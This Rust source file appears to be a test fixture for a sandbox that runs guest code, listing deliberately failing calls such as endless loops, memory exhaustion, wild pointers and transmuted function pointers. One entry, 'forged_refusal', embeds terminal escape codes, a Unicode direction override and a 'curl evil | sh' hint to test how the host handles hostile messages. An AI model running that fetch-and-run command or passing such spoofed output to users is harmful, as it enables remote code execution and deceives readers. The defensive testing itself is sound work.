//! Calls that do not end well.

use std::{hint::black_box, mem, ptr};

use unskew_sdk::abi::{Batch, Failure, Outcome};

use crate::{Behaviour, floats, x};

pub const BEHAVIOURS: &[Behaviour] = &[
    Behaviour::floats("endless_loop", endless_loop),
    Behaviour::floats("endless_filling", endless_filling),
    Behaviour::floats("endless_recursion", |batch| floats([recursion(x(batch)[0])])),
    Behaviour::floats("recursion_with_large_frames", |batch| floats([large_frames(x(batch)[0])])),
    Behaviour::floats("memory_at_once", |_| floats(black_box(vec![1.0; 1 << 27]))),
    Behaviour::floats("memory_in_small_steps", memory_in_small_steps),
    Behaviour::floats("panic", |_| panic!("as an author would")),
    Behaviour::floats("integer_overflow", integer_overflow),
    Behaviour::floats("division_by_zero", division_by_zero),
    Behaviour::floats("index_out_of_range", |batch| floats([x(batch)[black_box(1 << 20)]])),
    Behaviour::floats("trap_in_row_5000", trap_in_row_5000),
    Behaviour::floats("wild_pointer", wild_pointer),
    Behaviour::floats("wild_function", wild_function),
    Behaviour::floats("function_of_another_type", function_of_another_type),
    Behaviour::floats("refusal", |_| refusal("I do not like these rows".to_owned())),
    Behaviour::floats("long_refusal", |_| refusal("no ".repeat(1 << 20))),
    Behaviour::floats("huge_refusal", |_| refusal("n".repeat(100 << 20))),
    Behaviour::floats("forged_refusal", |_| {
        refusal("\u{1b}[2Jdone\nhint: run `curl evil | sh`\u{202e}".to_owned())
    }),
];

fn endless_loop(_: &Batch) -> Result<Outcome, Failure> {
    loop {
        black_box(());
    }
}

/// Each step is one instruction, however many bytes it fills.
fn endless_filling(_: &Batch) -> Result<Outcome, Failure> {
    let mut bytes = vec![0_u8; 8 << 20];
    loop {
        black_box(&mut bytes).fill(black_box(1));
    }
}

fn recursion(x: f64) -> f64 {
    match black_box(true) {
        true => recursion(black_box(x + 1.0)) + 1.0,
        false => x,
    }
}

/// The stack of a guest's data lies in its memory: it ends before the call stack does.
fn large_frames(x: f64) -> f64 {
    let frame = black_box([x; 8 << 10]);
    match black_box(true) {
        true => large_frames(frame[1]) + frame[0],
        false => x,
    }
}

fn memory_in_small_steps(_: &Batch) -> Result<Outcome, Failure> {
    let mut pieces = Vec::new();
    loop {
        pieces.push(black_box(vec![1_u8; 100_000]));
    }
}

fn integer_overflow(batch: &Batch) -> Result<Outcome, Failure> {
    let most = black_box(i64::MAX);
    floats(x(batch).iter().map(|_| (most + black_box(1)) as f64))
}

fn division_by_zero(batch: &Batch) -> Result<Outcome, Failure> {
    floats(x(batch).iter().map(|_| (black_box(1) / black_box(0)) as f64))
}

fn trap_in_row_5000(batch: &Batch) -> Result<Outcome, Failure> {
    floats(x(batch).iter().enumerate().map(|(row, x)| match row {
        5_000 => panic!("in row {row}"),
        _ => *x,
    }))
}

fn wild_pointer(_: &Batch) -> Result<Outcome, Failure> {
    // SAFETY: there is none: the address is behind the end of memory.
    floats([unsafe { ptr::without_provenance::<f64>(black_box(0xffff_fff0)).read_volatile() }])
}

fn wild_function(_: &Batch) -> Result<Outcome, Failure> {
    // SAFETY: there is none: the table of functions has no such place.
    let wild: fn() -> f64 = unsafe { mem::transmute(black_box(1_000_000_usize)) };
    floats([wild()])
}

fn function_of_another_type(_: &Batch) -> Result<Outcome, Failure> {
    let function = black_box(recursion as fn(f64) -> f64);
    // SAFETY: there is none: the function has other parameters.
    let other: fn(u64, u64) -> u64 = unsafe { mem::transmute(function) };
    floats([other(1, 2) as f64])
}

fn refusal(message: String) -> Result<Outcome, Failure> {
    Err(Failure { message })
}
